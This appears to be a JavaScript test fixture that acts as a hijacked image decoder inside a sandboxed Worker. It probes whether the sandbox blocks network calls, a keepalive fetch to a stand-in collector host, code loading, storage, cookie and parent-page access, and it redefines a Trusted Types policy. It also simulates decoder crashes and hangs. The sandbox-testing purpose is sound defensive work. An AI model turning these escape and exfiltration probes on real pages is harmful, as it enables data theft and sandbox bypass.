// Stands in for a decoder that was taken over: in guard's Worker, instead of guard, it tries what an attacker would, and answers
// with what succeeded. `@server@` is where the page came from.
const WAIT_MS = 1_500;

// Whoever is in the Worker may make the frame's policy of Trusted Types anew: that is no wall.
const policy = self.trustedTypes?.createPolicy('guard', { createScriptURL: (url) => url, createScript: (text) => text });
const trusted = (url) => policy?.createScriptURL(url) ?? url;

async function attempts(job) {
  const reached = [];
  const attempt = async (name, act) => {
    const late = new Promise((_, refuse) => setTimeout(refuse, WAIT_MS));
    late.catch(() => {});
    try {
      if ((await Promise.race([act(), late])) !== false) reached.push(name);
    } catch {
      // That is what walls are for.
    }
  };
  const opens = (socket) => new Promise((resolve, refuse) => {
    socket.onopen = resolve;
    socket.onmessage = resolve;
    socket.onerror = refuse;
  });
  const nested = (words) => new Promise((resolve, refuse) => {
    const worker = new Worker(trusted(URL.createObjectURL(new Blob([words], { type: 'text/javascript' }))));
    worker.onmessage = ({ data }) => (data ? resolve() : refuse());
    worker.onerror = refuse;
  });
  await Promise.all([
    attempt('fetch', () => fetch('@server@/')),
    attempt('fetch without reading', () => fetch('@server@/', { mode: 'no-cors' })),
    attempt('fetch elsewhere', () => fetch('https://collects.example/', { mode: 'no-cors', keepalive: true })),
    attempt('fetch from a Worker of its own', () => nested("fetch('@server@/', { mode: 'no-cors' }).then(() => postMessage(true), () => postMessage(false))")),
    attempt('XMLHttpRequest', () => {
      const request = new XMLHttpRequest();
      request.open('GET', '@server@/', false);
      request.send();
    }),
    attempt('WebSocket', () => opens(new WebSocket('@server@/'.replace('http', 'ws')))),
    attempt('EventSource', () => opens(new EventSource('@server@/'))),
    attempt('WebTransport', () => new WebTransport('https://127.0.0.1:1/').ready),
    attempt('WebRTC', () => new RTCPeerConnection()),
    attempt('a script of the server', () => importScripts(trusted('@server@/boot.js'))),
    attempt('a module of the server', () => import(trusted('@server@/boot.js'))),
    attempt('a script out of text', () => eval(policy?.createScript('1') ?? '1')),
    attempt('the file system', () => navigator.storage.getDirectory()),
    attempt('IndexedDB', () => new Promise((resolve, refuse) => {
      const request = indexedDB.open('casemate', 1);
      request.onsuccess = resolve;
      request.onerror = refuse;
    })),
    attempt('caches', () => caches.keys()),
    attempt('locks', () => navigator.locks.query()),
    attempt('cookies', () => cookieStore.getAll()),
    attempt('local storage', () => localStorage.length),
    attempt('the page', () => parent.document.title || top.location.href || document.title),
    attempt('what the page says to its like', () => new Promise((resolve) => {
      new BroadcastChannel('walls').onmessage = resolve;
    })),
    // What must still work, so that the list above proves something.
    attempt('(the file)', () => new FileReaderSync().readAsArrayBuffer(job.blob).byteLength > 0),
    attempt('(a Worker of its own)', () => nested('postMessage(true)')),
  ]);
  return reached.join(', ');
}

self.onmessage = async ({ data }) => {
  if (data.module) return self.postMessage({ ready: true });
  if ('warnings' in data) {
    const error = `reached: ${await attempts(data)}.`;
    return self.postMessage({ answer: { warnings: data.warnings, error, refused: true }, memory: 0 });
  }
  // A picture that makes its decoder crash, and one that never ends.
  const first = new Uint8Array(data.bytes)[0];
  if (first === 0x89) return void setTimeout(() => { throw new Error('a decoder\'s mistake'); });
  for (;;);
};
